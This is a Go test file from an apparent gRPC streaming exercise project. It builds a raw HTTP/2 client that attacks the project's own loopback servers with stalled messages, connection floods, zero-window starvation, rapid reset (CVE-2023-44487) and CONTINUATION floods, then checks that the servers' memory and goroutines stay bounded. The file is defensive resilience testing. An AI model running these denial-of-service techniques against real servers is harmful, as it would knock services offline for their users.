package abuse

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/grpc-streaming-katas/grpc-streaming-katas/pb"
)

// h2Client speaks raw HTTP/2 to a server, below gRPC: it opens streams
// and sends frames as a hostile client would, while keeping to the
// protocol (flow control, PING and SETTINGS acknowledgements), so that
// the server's own defences against protocol errors do not end the
// attack early.
type h2Client struct {
	conn net.Conn
	fr   *http2.Framer
	addr string

	wmu  sync.Mutex // one frame written at a time
	hbuf bytes.Buffer
	henc *hpack.Encoder

	mu         sync.Mutex
	changed    chan struct{} // closed and replaced on every change below
	settled    bool          // the server's first SETTINGS arrived
	closed     error         // why reading stopped, once it has
	initialWin int64
	connWin    int64
	streamWin  map[uint32]int64
	reset      map[uint32]bool
	nextID     uint32
}

// dialH2 opens a connection from the loopback address from (the whole
// 127.0.0.0/8 is loopback on Linux) and sends the client preface and
// settings. It fails only when no connection could be made.
func dialH2(ctx context.Context, addr, from string, settings ...http2.Setting) (*h2Client, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &h2Client{conn: conn, fr: http2.NewFramer(conn, conn), addr: addr, changed: make(chan struct{}),
		initialWin: 65535, connWin: 65535, streamWin: map[uint32]int64{}, reset: map[uint32]bool{}, nextID: 1}
	c.henc = hpack.NewEncoder(&c.hbuf)
	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	// A server that refuses the connection closes it at once, which a
	// write may find first: the client is then returned already closed,
	// and accepted says so.
	_, err = conn.Write([]byte(http2.ClientPreface))
	if err == nil {
		err = c.write(func() error { return c.fr.WriteSettings(settings...) })
	}
	if err != nil {
		c.closed = fmt.Errorf("the server closed the connection: %w", err)
		return c, nil
	}
	go c.readLoop()
	return c, nil
}

func (c *h2Client) write(f func() error) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return f()
}

// update changes the client's state under its lock and wakes waiters.
func (c *h2Client) update(change func()) {
	c.mu.Lock()
	defer c.mu.Unlock()
	change()
	close(c.changed)
	c.changed = make(chan struct{})
}

// waitFor waits until ready holds or ctx ends.
func (c *h2Client) waitFor(ctx context.Context, ready func() bool) error {
	for {
		c.mu.Lock()
		ok, changed, closed := ready(), c.changed, c.closed
		c.mu.Unlock()
		switch {
		case ok:
			return nil
		case closed != nil:
			return closed
		}
		select {
		case <-changed:
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

func (c *h2Client) readLoop() {
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			c.update(func() { c.closed = fmt.Errorf("the server closed the connection: %w", err) })
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if f.IsAck() {
				continue
			}
			c.update(func() {
				f.ForeachSetting(func(s http2.Setting) error {
					if s.ID == http2.SettingInitialWindowSize {
						delta := int64(s.Val) - c.initialWin
						for id := range c.streamWin {
							c.streamWin[id] += delta
						}
						c.initialWin = int64(s.Val)
					}
					return nil
				})
				c.settled = true
			})
			c.write(c.fr.WriteSettingsAck)
		case *http2.PingFrame:
			if !f.IsAck() {
				c.write(func() error { return c.fr.WritePing(true, f.Data) })
			}
		case *http2.WindowUpdateFrame:
			c.update(func() {
				if f.StreamID == 0 {
					c.connWin += int64(f.Increment)
				} else {
					c.streamWin[f.StreamID] += int64(f.Increment)
				}
			})
		case *http2.RSTStreamFrame:
			c.update(func() { c.reset[f.StreamID] = true })
		case *http2.MetaHeadersFrame:
			if f.StreamEnded() {
				c.update(func() { c.reset[f.StreamID] = true }) // trailers: the call is over
			}
		}
	}
}

// accepted waits until the server has sent its settings (it accepted the
// connection) or closed it; it reports which.
func (c *h2Client) accepted(ctx context.Context) bool {
	return c.waitFor(ctx, func() bool { return c.settled }) == nil
}

// open starts a gRPC call of method, with token when not empty, and
// returns its stream id.
func (c *h2Client) open(method, token string) (uint32, error) {
	c.mu.Lock()
	id := c.nextID
	c.nextID += 2
	c.streamWin[id] = c.initialWin
	c.mu.Unlock()
	return id, c.write(func() error {
		c.hbuf.Reset()
		for _, f := range grpcHeaders(c.addr, method, token) {
			c.henc.WriteField(f)
		}
		return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true})
	})
}

// errStreamEnded says the server ended a stream before all of its data
// was sent.
var errStreamEnded = errors.New("the server ended the stream")

// call sends one whole gRPC request message on stream id and ends the
// client's side of it.
func (c *h2Client) call(ctx context.Context, id uint32, req proto.Message) error {
	b, err := proto.Marshal(req)
	if err != nil {
		return err
	}
	msg := make([]byte, 5, 5+len(b))
	binary.BigEndian.PutUint32(msg[1:5], uint32(len(b)))
	if err := c.send(ctx, id, append(msg, b...)); err != nil {
		return err
	}
	return c.write(func() error { return c.fr.WriteData(id, true, nil) })
}

// send writes data on stream id as flow control allows.
func (c *h2Client) send(ctx context.Context, id uint32, data []byte) error {
	for len(data) > 0 {
		var n int64
		err := c.waitFor(ctx, func() bool {
			n = min(c.connWin, c.streamWin[id], int64(len(data)), 16<<10)
			return n > 0 || c.reset[id]
		})
		if err != nil {
			return err
		}
		c.mu.Lock()
		if c.reset[id] {
			c.mu.Unlock()
			return errStreamEnded
		}
		c.connWin -= n
		c.streamWin[id] -= n
		c.mu.Unlock()
		if err := c.write(func() error { return c.fr.WriteData(id, false, data[:n]) }); err != nil {
			return err
		}
		data = data[n:]
	}
	return nil
}

// stallPrefix sends a gRPC message prefix that declares declared bytes,
// then all of them but the last: the server waits for that byte.
func (c *h2Client) stallPrefix(ctx context.Context, id uint32, declared int) error {
	msg := make([]byte, 5+declared-1)
	binary.BigEndian.PutUint32(msg[1:5], uint32(declared))
	return c.send(ctx, id, msg)
}

// ended reports whether the server has ended stream id.
func (c *h2Client) ended(id uint32) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.reset[id]
}

func (c *h2Client) Close() error { return c.conn.Close() }

// attacker is one accepted connection to day's server from 127.0.0.1,
// closed when the test ends if it has not been before.
func attacker(ctx context.Context, t *testing.T, day string, settings ...http2.Setting) *h2Client {
	t.Helper()
	a, err := dialH2(ctx, os.Getenv("ABUSE_ADDR_"+day), "127.0.0.1", settings...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close() })
	if !a.accepted(ctx) {
		t.Fatal("the server refused an attacker's connection")
	}
	return a
}

// closeAll closes the attacker's connections before the report measures
// what they left behind.
func closeAll(attackers []*h2Client) {
	for _, a := range attackers {
		a.Close()
	}
}

// grpcHeaders are the header fields of a call of method, with token
// when not empty.
func grpcHeaders(authority, method, token string) []hpack.HeaderField {
	fields := []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: method},
		{Name: ":authority", Value: authority}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}}
	if token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
	}
	return fields
}

// transportLimits are the limits each day's server states (see the
// serverLimits of its demo.go and serving.ConnLimits).
var transportLimits = map[string]struct {
	maxRecv, streams, perAddress int
}{
	"48": {maxRecv: 1<<20 + 16<<10, streams: 8, perAddress: 16},
	"49": {maxRecv: 64 << 10, streams: 16, perAddress: 16},
}

// stalledCalls are, per day, the methods whose handlers a stalled message
// holds: a unary call (grpc-go reads its whole request before any
// handler), and a streaming call whose handler waits in Recv.
var stalledCalls = map[string][][2]string{
	"48": {{"/grpc.health.v1.Health/Check", ""}, {"/streaming.v1.DataCollectionService/CollectDataPoints", ""}, {"/streaming.v1.BatchService/ProcessBatch", "mallory-demo-token"}},
	"49": {{"/grpc.health.v1.Health/Check", ""}, {"/streaming.v1.GameService/Play", "mallory-demo-token"}, {"/streaming.v1.EditorService/Edit", "mallory-demo-token"}},
}

// testStalledPrefixes opens, on each of conns connections, more streams
// than the server allows at once, and on each stream declares a message
// of the receive limit and sends all of it but its last byte. The server
// may hold at most conns x streams x the receive limit for it; a good
// client is served while it waits, and nothing is left once the attacker
// goes.
func testStalledPrefixes(t *testing.T, day string) {
	conn, b := attack(t, day)
	ctx := attackContext(t)
	limits := transportLimits[day]
	const conns = 4
	var attackers []*h2Client
	held := 0
	for range conns {
		a := attacker(ctx, t, day)
		attackers = append(attackers, a)
		var ids []uint32
		for i := range limits.streams + 4 {
			call := stalledCalls[day][i%len(stalledCalls[day])]
			id, err := a.open(call[0], call[1])
			if err != nil {
				t.Fatalf("opening a stream: %v", err)
			}
			ids = append(ids, id)
		}
		for _, id := range ids {
			switch err := a.stallPrefix(ctx, id, limits.maxRecv); {
			case errors.Is(err, errStreamEnded):
			case err != nil:
				t.Fatalf("stalling a message on stream %d: %v", id, err)
			default:
				held++
			}
		}
	}
	during := serverState(t, day)
	healthy(t, conn) // served while the attack holds its streams
	grew := int64(during.HeapLiveBytes) - int64(b.state.HeapLiveBytes)
	bound := int64(conns * limits.streams * limits.maxRecv)
	if held > conns*limits.streams {
		t.Fatalf("%d stalled messages held on %d connections, want at most %d streams a connection", held, conns, limits.streams)
	}
	if grew > bound+heapSlack {
		t.Fatalf("the server's live heap grew by %.1f MiB while %d stalled messages waited, want at most %d x %d x %.2f MiB = %.1f MiB (plus %d MiB)",
			float64(grew)/(1<<20), held, conns, limits.streams, float64(limits.maxRecv)/(1<<20), float64(bound)/(1<<20), heapSlack>>20)
	}
	closeAll(attackers)
	report(t, b, fmt.Sprintf("at most %d streams a connection; each holds at most the receive limit (%d KiB), so 4 connections hold at most %.1f MiB; others served", limits.streams, limits.maxRecv>>10, float64(bound)/(1<<20)),
		fmt.Sprintf("%d messages stalled one byte short on 4 connections; live heap %+.1f MiB during; a health check served meanwhile", held, float64(grew)/(1<<20)),
		"nothing once the attacker disconnects")
	healthy(t, conn)
}

// testManyConnections opens more connections from one address than the
// server accepts from it; the rest are closed at once, and a client from
// another address is served throughout.
func testManyConnections(t *testing.T, day string) {
	// The good client comes from 127.0.0.1; the attacker from 127.0.0.3.
	conn, b := attack(t, day)
	ctx := attackContext(t)
	limits := transportLimits[day]
	var attackers []*h2Client
	defer func() { closeAll(attackers) }()
	accepted := 0
	for range limits.perAddress + 8 {
		a, err := dialH2(ctx, os.Getenv("ABUSE_ADDR_"+day), "127.0.0.3")
		if err != nil {
			t.Skipf("cannot dial from 127.0.0.3 here (%v): the attack needs the whole 127.0.0.0/8 on loopback, as Linux has", err)
		}
		attackers = append(attackers, a)
		if a.accepted(ctx) {
			accepted++
		}
	}
	during := serverState(t, day)
	healthy(t, conn)
	if accepted != limits.perAddress {
		t.Fatalf("the server accepted %d of %d connections from one address, want exactly %d", accepted, limits.perAddress+8, limits.perAddress)
	}
	closeAll(attackers)
	report(t, b, fmt.Sprintf("%d accepted from one address, the rest closed at once and logged; a client from another address served", limits.perAddress),
		fmt.Sprintf("%d of %d accepted; goroutines %d during; a health check served meanwhile", accepted, limits.perAddress+8, during.Goroutines),
		"nothing once the attacker disconnects")
	healthy(t, conn)
}

// testZeroWindow fills the log index with entries a search answers with
// about 1 MiB, then, on a connection whose flow-control window is zero and
// never opens, asks that search on every stream the connection may have:
// the answers wait in the server for a window that never comes. The
// server may hold at most a connection's streams x the largest answer
// (the search's 1 MiB cap) for it; a good client is served meanwhile, and
// nothing is left once the attacker goes.
func testZeroWindow(t *testing.T) {
	conn, b := attack(t, "48")
	ctx := attackContext(t)
	limits := transportLimits["48"]
	app := fmt.Sprint("zero-window-", time.Now().UnixNano()%1000000)
	logs, err := pb.NewDataCollectionServiceClient(conn).CollectLogs(ctx)
	if err != nil {
		t.Fatal(err)
	}
	fields := map[string]string{}
	for f := range 10 {
		fields[fmt.Sprint("f", f)] = strings.Repeat("v", 1000)
	}
	for i := range 80 {
		if err := logs.Send(&pb.LogEntry{Application: app, Level: pb.LogLevel_LOG_LEVEL_INFO, Timestamp: timestamppb.Now(),
			Message: fmt.Sprintf("%04d %s", i, strings.Repeat("z", 7995)), Fields: fields}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := logs.CloseAndRecv(); err != nil {
		t.Fatal(err)
	}
	before := serverState(t, "48")

	const conns = 4
	var attackers []*h2Client
	asked := 0
	for range conns {
		a := attacker(ctx, t, "48", http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		attackers = append(attackers, a)
		for range limits.streams + 4 {
			id, err := a.open("/streaming.v1.DataCollectionService/SearchLogs", "")
			if err != nil {
				t.Fatal(err)
			}
			switch err := a.call(ctx, id, &pb.SearchLogsRequest{Application: app, Limit: 1000}); {
			case errors.Is(err, errStreamEnded):
			case err != nil:
				t.Fatalf("asking a search on stream %d: %v", id, err)
			default:
				asked++
			}
		}
	}
	// Every handler answers at once; the answers then wait.
	healthy(t, conn)
	during := serverState(t, "48")
	grew := int64(during.HeapLiveBytes) - int64(before.HeapLiveBytes)
	bound := int64(conns*limits.streams) << 20
	if grew > bound+heapSlack {
		t.Fatalf("the server's live heap grew by %.1f MiB while %d answers on %d connections waited for a window that never opens, want at most %d x %d streams x 1 MiB (plus %d MiB)",
			float64(grew)/(1<<20), asked, conns, conns, limits.streams, heapSlack>>20)
	}
	closeAll(attackers)
	report(t, b, fmt.Sprintf("at most %d answers of at most 1 MiB wait for the window: %d MiB a connection, until the attacker goes or the connection's age runs out; others served", limits.streams, limits.streams),
		fmt.Sprintf("%d searches sent on 4 connections with a zero window (the server takes 8 a connection); live heap %+.1f MiB while their answers waited; a health check served meanwhile", asked, float64(grew)/(1<<20)),
		"nothing once the attacker disconnects")
	healthy(t, conn)
}

// testRapidReset opens calls and resets each at once, as fast as the
// connection takes them (the attack of CVE-2023-44487): grpc-go bounds
// the handlers it runs for them. A good client is served meanwhile, and
// nothing is left once the attacker goes.
func testRapidReset(t *testing.T, day string) {
	conn, b := attack(t, day)
	ctx := attackContext(t)
	a := attacker(ctx, t, day)
	const resets = 5000
	sent := 0
	for range resets {
		id, err := a.open("/grpc.health.v1.Health/Check", "")
		if err == nil {
			err = a.write(func() error { return a.fr.WriteRSTStream(id, http2.ErrCodeCancel) })
		}
		if err != nil {
			break // the server closed the connection: that is a defence too
		}
		sent++
	}
	during := serverState(t, day)
	healthy(t, conn)
	limits := transportLimits[day]
	if extra := during.Goroutines - b.state.Goroutines; extra > limits.streams+goroutineSlack+4 {
		t.Fatalf("the server ran %d more goroutines while %d calls were opened and reset at once, want at most its %d streams a connection and the connection's own", extra, sent, limits.streams)
	}
	a.Close()
	report(t, b, fmt.Sprintf("grpc-go runs at most %d handlers a connection however fast calls are reset; others served", limits.streams),
		fmt.Sprintf("%d calls opened and reset; goroutines %d during (%d before); a health check served meanwhile", sent, during.Goroutines, b.state.Goroutines),
		"nothing once the attacker disconnects")
	healthy(t, conn)
}

// testContinuationFlood sends one call's headers as a HEADERS frame
// followed by CONTINUATION frames that never end, each full of header
// fields: the server must stop reading them at its 16 KiB limit on a
// call's metadata, not buffer them. A good client is served meanwhile.
func testContinuationFlood(t *testing.T, day string) {
	conn, b := attack(t, day)
	ctx := attackContext(t)
	a := attacker(ctx, t, day)
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range grpcHeaders(a.addr, "/grpc.health.v1.Health/Check", "") {
		enc.WriteField(f)
	}
	junk := bytes.Buffer{}
	jenc := hpack.NewEncoder(&junk)
	jenc.WriteField(hpack.HeaderField{Name: "x-junk", Value: strings.Repeat("j", 8000), Sensitive: true})
	const frames = 2000 // 16 MB of headers if the server read them all
	sent := 0
	a.conn.SetWriteDeadline(time.Now().Add(10 * time.Second)) // a server that stops reading ends the flood too
	err := a.write(func() error {
		return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: false})
	})
	for ; err == nil && sent < frames; sent++ {
		err = a.write(func() error { return a.fr.WriteContinuation(1, false, junk.Bytes()) })
	}
	waitCtx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	closed := a.waitFor(waitCtx, func() bool { return a.reset[1] }) // nil once the stream is refused; an error once the connection closes
	during := serverState(t, day)
	healthy(t, conn)
	if errors.Is(closed, context.DeadlineExceeded) {
		t.Fatalf("the server took %d CONTINUATION frames of 8 KB for one call and neither refused the call nor closed the connection within 5s", sent)
	}
	grew := int64(during.HeapLiveBytes) - int64(b.state.HeapLiveBytes)
	if grew > heapSlack {
		t.Fatalf("the server's live heap grew by %.1f MiB during a CONTINUATION flood, want it to stop reading at its 16 KiB header limit", float64(grew)/(1<<20))
	}
	a.Close()
	report(t, b, "the call's metadata stops at 16 KiB: the connection is closed long before the flood ends; others served",
		fmt.Sprintf("%d of %d frames of 8 KB written before the server closed the connection; live heap %+.1f MiB during; a health check served meanwhile", sent, frames, float64(grew)/(1<<20)),
		"nothing once the attacker disconnects")
	healthy(t, conn)
}
